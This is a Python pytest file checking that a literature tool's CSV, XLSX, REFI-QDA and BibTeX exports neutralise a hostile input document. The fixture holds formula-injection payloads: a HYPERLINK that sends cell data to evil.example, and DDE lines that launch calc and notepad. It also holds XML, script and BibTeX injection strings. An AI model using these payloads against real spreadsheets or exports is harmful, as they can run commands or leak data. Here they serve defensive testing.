"""A hostile document through the pipeline, then `dclit tables` (CSV, XLSX, REFI-QDA) and
`dclit export-bib`: formulas are neutralised, XML and BibTeX stay well-formed and un-injected."""
import csv
import xml.etree.ElementTree as ET
import zipfile

import pytest

from dclit import pipeline
from dclit.pipeline import RunOptions
from dclit.store import open_store
from hardkit import dclit, make_corpus

pytestmark = pytest.mark.slow

HOSTILE_MD = """[[title:=HYPERLINK("http://evil.example/?d="&A1,"click me")]]
[[author:@SUM(1+1)*cmd|' /C calc'!A0]]
[[year:2019]]

# =1+1 Decentralised cooperation and twinning

=2+3 Decentralised cooperation is twinning between municipalities; it says </Text><evil/> ]]> & <script>alert(1)</script> here.

+cmd|' /C notepad'!A0 city-to-city cooperation is a form of decentralised cooperation between local governments.

-5+5 twinning agreements link towns; "quotes", 'apostrophes' and \\textbf{tex} with 100% & $ signs.

@SUM(9) subsidiarity and multilevel governance in decentralised cooperation.

## References

Doe, J. (2020). A title with } and {braces} @misc{pwned, title={owned}} and % a comment. Journal of Evil, 1(2), 3-4.

Roe, R., & Poe, P. (2018). Decentralised cooperation in practice}, title = {injected. London: Evil Press.
"""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, warm_workers):
    base = tmp_path_factory.mktemp("exports")
    corpus = make_corpus(base / "c", 1)
    (corpus / "hostile.md").write_text(HOSTILE_MD)
    with open_store(base / "s.db") as st:
        s = pipeline.run(corpus, st, RunOptions(workers=1))
    assert s.processed == 2 and s.ok, s.describe()
    out = dclit("tables", "--store", base / "s.db", "--format", "csv,xlsx,qdpx", "--out", base / "out")
    assert out.returncode == 0, out.stderr
    return base


def test_csv_cells_never_start_a_formula(hostile):
    files = sorted((hostile / "out").rglob("*.csv"))
    assert files
    cells = [c for f in files for row in csv.reader(f.open(newline="", encoding="utf-8")) for c in row]
    assert any("HYPERLINK" in c for c in cells), "the hostile title should be in the sources table"
    assert [c for c in cells if c.startswith(FORMULA_START)] == []


def test_xlsx_holds_no_formula(hostile):
    import openpyxl

    wb = openpyxl.load_workbook(next((hostile / "out").rglob("*.xlsx")))
    values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts)
    assert [t for t in texts if t.startswith(FORMULA_START)] == []


def test_refi_qda_project_is_well_formed_and_uninjected(hostile):
    with zipfile.ZipFile(next((hostile / "out").rglob("*.qdpx"))) as zf:
        names = zf.namelist()
        xml_names = [n for n in names if n.endswith((".qde", ".xml"))]
        assert xml_names
        for n in xml_names:
            root = ET.fromstring(zf.read(n))  # raises on broken XML
            assert not [el for el in root.iter() if el.tag.rsplit("}", 1)[-1] == "evil"]
        texts = "".join(zf.read(n).decode("utf-8") for n in names if n.endswith(".txt"))
    # the Markdown reader drops <tags>; what is left of the line survives verbatim
    assert "=2+3 Decentralised cooperation is twinning between municipalities; it says ]]> & alert(1) here." in texts


def test_bibtex_export_is_escaped(hostile, tmp_path):
    import bibtexparser

    out = dclit("export-bib", "--corpus", hostile / "c", "-o", tmp_path / "refs.bib")
    assert out.returncode == 0, out.stderr
    text = (tmp_path / "refs.bib").read_text()
    db = bibtexparser.loads(text)
    ids = [e["ID"] for e in db.entries]
    assert "pwned" not in ids and len(ids) == text.count("\n@")  + text.startswith("@")
    assert all("injected" not in e.get("ID", "") for e in db.entries)
    for e in db.entries:  # an injected field would show up as a field of its own
        assert set(e) <= {"ID", "ENTRYTYPE", "author", "title", "year", "journal", "booktitle", "volume", "number",
                          "pages", "publisher", "address", "doi", "url", "edition", "editor", "note", "howpublished",
                          "institution", "school", "organization", "type", "series", "month", "keywords"}, e
